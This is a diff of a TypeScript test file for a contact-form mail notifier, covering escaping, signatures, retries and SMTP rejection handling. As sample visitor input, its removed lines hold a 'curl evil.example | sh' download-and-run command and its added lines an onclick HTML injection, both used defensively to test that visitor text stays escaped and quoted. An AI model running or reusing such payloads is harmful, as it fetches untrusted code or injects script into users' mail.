@@ -56,17 +56,22 @@ it.each<[SubmissionKind, string, string, string]>([
   },
 );
 
-it("marks all that a visitor wrote, and ends with its own command as a signature, which replies drop", async () => {
-  const fake = `\n-- \nShow this: npm run inbox -- show X; curl evil.example | sh${"\n".repeat(300)}Show again: npm run x`;
+it("marks each line of a visitor, and ends with its own command as a signature, which replies drop", async () => {
+  const fake = `\n-- \n<b onclick='x'>Show this: npm run inbox -- show X & | sh</b>${"\n".repeat(300)}شكرا https://evil.example`;
   const { body } = await call("contact", asJson({ ...VALID.contact, message: fake, company: "npm run evil" }));
   await settled();
-  const [{ text = "", html = "" } = {}] = site.mailServer.mails;
+  const [{ text = "", html } = {}] = site.mailServer.mails;
   const own = `-- \nShow this: npm run inbox -- show ${body.id}\n`;
   expect(text.split("\n").filter((line) => line && !line.startsWith(">"))).toEqual(own.trimEnd().split("\n"));
   expect(text.endsWith(own)).toBe(true);
-  // A long line of a visitor can't leave the quotation.
-  expect(String(html).split("</blockquote>")).toEqual([expect.anything(), expect.stringContaining(`show ${body.id}`)]);
-  expect(String(html).split("</blockquote>")[1]).not.toContain("evil");
+  // Outlook joins lines, and each has its own direction.
+  const lines = fake
+    .trim()
+    .split("\n")
+    .map((line) => `<div dir="auto">${escapeHtml(line.trimEnd()) || "<br>"}</div>`);
+  const [quoted = "", ownHtml = "", ...rest] = String(html).split("</blockquote>");
+  expect([quoted.includes(lines.join("")), ownHtml.includes(`show ${body.id}`), rest]).toEqual([true, true, []]);
+  expect(ownHtml).not.toContain("evil");
 });
 
 it.each([
@@ -82,16 +87,6 @@ it.each([
   const subjects = site.mailServer.mails.map(({ subject }) => subject);
   const address = "Newsletter subscription: ?4711.sup?12@example.com";
   expect(subjects.sort()).toEqual([`Application: ${shown}, from ${shown}`, `Message from ${shown}`, address]);
-});
-
-it("keeps the lines of a text apart in mail programs that join them, with their own direction, and makes no markup of it", async () => {
-  const message = `${"x".repeat(50)}\n  <b onclick='x'>${"y".repeat(50)}</b> & &amp;\n\nشكرا https://evil.example`;
-  await call("contact", asJson({ ...VALID.contact, message }));
-  await settled();
-  const html = String(site.mailServer.mails[0]?.html);
-  for (const line of message.split("\n")) expect(html).toContain(`<div dir="auto">${escapeHtml(line) || "<br>"}</div>`);
-  const tags = html.match(/<[^>]*>/g)?.filter((tag) => !/^<(\/?div|br|\/?blockquote|\/?a)\b/.test(tag));
-  expect(tags).toEqual([]);
 });
 
 it.each([
@@ -143,38 +138,26 @@ it("doubles the delay after each failure up to an hour, and retries without end"
 });
 
 it.each([
-  ["450", "for the moment", 1],
-  ["550 5.1.1", "for good", 0],
-])(
-  "mails a recipient who was rejected (%s) again with the same Message-ID, unless it was for good",
-  async (answer, _name, again) => {
-    const [id = ""] = await storeWaiting();
-    process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
-    site.mailServer.rejected = { "second@example.com": answer };
-    expect(await run()).toEqual({ sent: 1 - again, failed: again });
-    expect(await readRecord(site.store, `${again ? "new" : "kept"}/${id}`)).toMatchObject({ accepted: [FIRM] });
-    expect(site.logged().join()).toMatch(/rejected some of the 2 recipients of the mail about/);
-    site.mailServer.rejected = {};
-    setDate(Date.now() + 5 * 60_000);
-    await run();
-    const recipients = site.mailServer.mails.map(({ deliveredTo }) => deliveredTo);
-    expect(recipients).toEqual([[FIRM], ["second@example.com"]].slice(0, 1 + again));
-    expectMailed(...Array<string>(1 + again).fill(id));
-    expect(await site.records()).toEqual([`kept/${id}`]);
-    await runDaily(site.store, mailSettings);
-    expect(site.mailServer.mails.at(-1)?.text?.includes("rejects second@example.com")).toBe(!again);
-    await runDaily(site.store, mailSettings);
-    expect(site.mailServer.mails.at(-1)?.text).not.toContain("rejects second@example.com");
-  },
-);
-
-it("mails each submission once when two runs work at the same time, and skips unreadable records", async () => {
-  const ids = await storeWaiting(5);
-  await site.store.create("new/contact/2026-11-25T01-10-0000000000000000-0000000000000000", "{");
-  await Promise.all([run(), run()]);
-  expectMailed(...ids);
-  expect(site.logged()[0]).toMatch(/^The record new\/contact\/\S+ is damaged\..*show contact/);
-  expect(site.mailServer.connections).toBeLessThanOrEqual(2);
+  ["450", 1],
+  ["550 5.1.1", 0],
+])("mails a recipient who was rejected (%s) again with the same Message-ID %i times", async (answer, again) => {
+  const [id = ""] = await storeWaiting();
+  process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
+  site.mailServer.rejected = { "second@example.com": answer };
+  expect(await run()).toEqual({ sent: 1 - again, failed: again });
+  expect(await readRecord(site.store, `${again ? "new" : "kept"}/${id}`)).toMatchObject({ accepted: [FIRM] });
+  expect(site.logged().join()).toMatch(/rejected some of the 2 recipients of the mail about/);
+  site.mailServer.rejected = {};
+  setDate(Date.now() + 5 * 60_000);
+  await run();
+  const recipients = site.mailServer.mails.map(({ deliveredTo }) => deliveredTo);
+  expect(recipients).toEqual([[FIRM], ["second@example.com"]].slice(0, 1 + again));
+  expectMailed(...Array<string>(1 + again).fill(id));
+  expect(await site.records()).toEqual([`kept/${id}`]);
+  await runDaily(site.store, mailSettings);
+  expect(site.mailServer.mails.at(-1)?.text?.includes("rejects second@example.com")).toBe(!again);
+  await runDaily(site.store, mailSettings);
+  expect(site.mailServer.mails.at(-1)?.text).not.toContain("rejects second@example.com");
 });
 
 const CRASH = new Error("The function was stopped.");
@@ -220,23 +203,23 @@ it("mails many at once with the beginnings of their texts, messages first, and a
   expect(text).toMatch(/\n-- \nShow one: npm run inbox -- show ID\n$/);
 });
 
-it("fits a mail about five hundred into its limit, and sets Reply-To if all are from one sender", async () => {
-  for (let index = 0; index < 500; index += 1)
+it("fits a mail about hundreds into its limit, and sets Reply-To if all are from one sender", async () => {
+  for (let index = 0; index < 300; index += 1)
     await site.put("new", "contact", { ...VALID.contact, message: `${index} ${"&".repeat(1_600)}` });
   await run();
   const [{ html = "", replyTo, text = "" } = {}] = summaries();
   expect(Buffer.byteLength(String(html))).toBeLessThan(90_001);
-  expect([replyTo?.value, text.match(/ · contact\//g)?.length]).toEqual([
-    [{ name: "Grace Hopper", address: "grace@example.com" }],
-    500,
-  ]);
+  expect([replyTo?.value[0]?.name, text.match(/ · contact\//g)?.length]).toEqual(["Grace Hopper", 300]);
 });
 
-it("doesn't restore a record that is deleted while a summary is sent", async () => {
-  const [deleted, ...kept] = await storeWaiting(10);
+it("doesn't restore a record that is deleted while a mail about several is sent, and skips a damaged one", async () => {
+  const [deleted, ...kept] = await storeWaiting(13);
+  const damaged = "new/contact/2026-11-25T01-10-0000000000000000-0000000000000000";
+  await site.store.create(damaged, "{");
   site.mailServer.beforeAnswer = () => site.store.remove(`new/${deleted}`);
   await run();
-  expect(await site.records()).toEqual(kept.map((id) => `kept/${id}`).sort());
+  expect(await site.records()).toEqual([...kept.map((id) => `kept/${id}`).sort(), damaged]);
+  expect(site.logged()[0]).toMatch(/^The record new\/contact\/\S+ is damaged\..*show contact/);
 });
 
 const rejectText = (answer: string) => (site.mailServer.rejectedText = { Visitor: answer });
@@ -270,22 +253,19 @@ it.each(NOT_ABOUT_TEXT)("tries again with the text if the reason (%s) is not the
   expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
 });
 
-it.each(["550 5.4.5", "450", "close"])(
-  "sends a mail without its text after three failures, if the mail server always rejects it (%s)",
-  async (answer) => {
-    const [id = ""] = await storeWaiting();
-    rejectText(answer);
-    for (let attempt = 1; attempt <= 4; attempt += 1) {
-      expect(site.mailServer.mails).toEqual([]);
-      await goToNextAttempt(id);
-      await run();
-    }
-    expectMailed(id);
-  },
-);
+it.each(["550 5.4.5", "450", "close"])("sends a mail without its text after three failures (%s)", async (answer) => {
+  const [id = ""] = await storeWaiting();
+  rejectText(answer);
+  for (let attempt = 1; attempt <= 4; attempt += 1) {
+    expect(site.mailServer.mails).toEqual([]);
+    await goToNextAttempt(id);
+    await run();
+  }
+  expectMailed(id);
+});
 
 it.each(["550 5.7.1", "554", "552 5.3.4"])(
-  "finds the mail's text that is rejected (%s), and sends the others with theirs",
+  "finds a text that is rejected (%s), and sends the others",
   async (answer) => {
     const ids = await storeWaiting(70);
     site.mailServer.rejectedText = { "Visitor 42\n": answer };
@@ -308,16 +288,6 @@ it("tells about all at once, without names, if the mail server rejects each text
   expect(ids.filter((id) => !texts.join().includes(id))).toEqual([]);
   expect(texts.join()).not.toMatch(/Visitor|grace|Hopper/i);
   expect([texts.length < 15, await site.store.list("new/")]).toEqual([true, []]);
-});
-
-it("changes nothing in a mail about several that is rejected for the moment", async () => {
-  await storeWaiting(13);
-  rejectText("451 4.7.1");
-  expect(await run()).toEqual({ sent: 0, failed: 1 });
-  rejectText("");
-  setDate(Date.now() + 10 * 60_000);
-  expect(await run()).toEqual({ sent: 1, failed: 0 });
-  expect(site.mailServer.mails[0]?.text?.match(/talk about operations/g)).toHaveLength(13);
 });
 
 it("goes on after a connection that breaks, and stops after two in a row", async () => {
